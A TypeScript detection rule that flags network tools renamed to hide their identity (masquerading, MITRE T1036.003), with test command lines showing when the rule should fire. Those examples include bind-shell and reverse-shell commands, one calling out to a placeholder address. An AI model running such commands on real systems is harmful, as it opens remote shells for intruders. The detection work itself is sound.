import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

/** A tool under another name. */
export const renamed: Indicator = {
  id: 'renamed',
  points: 20,
  hard: false,
  mitre: ['T1036.003'],
  title: 'Tool under another name',
  description:
    "The file's name is no tool's, its options are: two independent parts of the arguments belong to one tool. Or only argv[0] names the tool.",
  evaluate({ resolution, process, tool }) {
    if (!resolution.by_vocabulary) return undefined;
    const path = process.binary ?? process.exe ?? process.argv[0] ?? '';
    return {
      evidence: short(path),
      why: `${short(path)} has the options of ${tool.id}, under another name`,
      immune: true,
    };
  },
  examples: {
    fires: [
      { run: '/opt/x/updater --listen --keep-open -p 8443 --sh-exec /bin/bash' },
      { run: '/opt/x/agentd TCP:203.0.113.9:443 EXEC:sh' },
    ],
    silent: [{ run: '/opt/x/updater --listen -p 8443' }, { run: 'ncat -l -p 8443 --sh-exec /bin/bash' }],
  },
};
